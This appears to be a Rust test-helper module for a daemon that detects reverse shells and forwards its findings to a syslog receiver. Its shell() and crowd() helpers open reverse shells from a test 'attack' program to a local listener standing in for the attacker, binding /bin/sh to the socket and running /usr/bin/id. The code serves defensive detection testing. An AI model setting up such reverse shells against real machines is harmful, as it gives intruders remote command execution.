//! Tethered shells, and what the spool and the receiver have of them.

use std::collections::{BTreeMap, BTreeSet};
use std::net::TcpStream;
use std::sync::Arc;

use super::receiver::Receiver;
use crate::common::attacker::{Listener, Session};
use crate::common::daemon::{Daemon, Place};
use crate::common::finding::{CATEGORY, Finding};
use crate::common::programs::program;
use crate::common::syslogd::ZONE;
use crate::common::victim::Victim;
use crate::common::{DEADLINE, wait_at_most};

/// A place whose daemon sends to a receiver.
pub fn place(receiver: &Receiver, extra: &str) -> Arc<Place> {
    Place::new(&format!("[syslog]\npath = \"{}\"\n{extra}", receiver.socket().display()))
}

/// A daemon in the receiver's time zone.
pub fn daemon(place: &Arc<Place>) -> Daemon {
    let mut command = place.command();
    command.env("TZ", ZONE);
    Daemon::start_by(place, command)
}

/// Whether a record is about the connection to a port of the attacker's.
pub fn about(port: u16) -> impl Fn(&Finding) -> bool {
    move |record| record.peer_port() == Some(port) && record.category() == CATEGORY
}

/// A reverse shell with one command run.
pub fn shell() -> (Session, Victim, u16) {
    let attacker = Listener::tcp();
    let port = attacker.port();
    let victim = Victim::start(program("attack"), &["dup", "127.0.0.1", &port.to_string(), "012", "/bin/sh"]);
    let mut session = attacker.accept();
    session.run("/usr/bin/id");
    (session, victim, port)
}

/// Shells that each wait for a line on a connection of their own to the port; nobody answers.
pub fn crowd(attacker: &Listener, count: usize) -> Vec<Victim> {
    let start = |_| {
        let stream = TcpStream::connect(("127.0.0.1", attacker.port())).unwrap();
        Victim::on_socket(&stream, "/bin/sh", &["-c", "read line"])
    };
    (0..count).map(start).collect()
}

/// Waits until the spool has a finding in each state asked for, on `count` different connections to the port.
pub fn spooled(daemon: &Daemon, port: u16, state: &str, count: usize) {
    let names = || -> BTreeSet<String> {
        let all = daemon.records().into_iter();
        all.filter(|r| about(port)(r) && r.state() == state).map(|r| r.id().to_owned()).collect()
    };
    let done = wait_at_most(DEADLINE, || (names().len() >= count).then_some(()));
    assert!(done.is_some(), "{} of {count} findings are {state}", names().len());
}

/// Waits until each record that the spool has now of these ports has arrived; what arrived of them, in order.
pub fn all_arrive(place: &Place, receiver: &Receiver, ports: &[u16]) -> Vec<(String, u64)> {
    let records = place.records();
    let own = records.iter().filter(|record| ports.iter().any(|port| about(*port)(record)));
    let wanted: BTreeSet<(String, u64)> = own.map(|r| (r.id().to_owned(), r.number("Sequence"))).collect();
    assert!(!wanted.is_empty());
    let arrived = || receiver.messages().into_iter().map(|m| (m.text("id").to_owned(), m.number("seq")));
    let missing = || {
        let there: BTreeSet<_> = arrived().collect();
        wanted.difference(&there).cloned().collect::<Vec<_>>()
    };
    let done = wait_at_most(DEADLINE, || missing().is_empty().then_some(()));
    assert!(done.is_some(), "{} of {} did not arrive: {:?}", missing().len(), wanted.len(), missing());
    arrived().filter(|message| wanted.contains(message)).collect()
}

/// Of one name, the older has to come before the newer, by when each came first.
pub fn in_order(arrived: &[(String, u64)]) {
    let mut newest: BTreeMap<&str, u64> = BTreeMap::new();
    for (place, (id, sequence)) in arrived.iter().enumerate() {
        if !arrived[..place].contains(&(id.clone(), *sequence)) {
            let before = newest.insert(id, *sequence);
            assert!(before.is_none_or(|before| before < *sequence), "{id}: {sequence} came after {before:?}");
        }
    }
}

/// How often the one that came most often came.
pub fn most_often(arrived: &[(String, u64)]) -> usize {
    arrived.iter().map(|one| arrived.iter().filter(|other| *other == one).count()).max().unwrap_or(0)
}
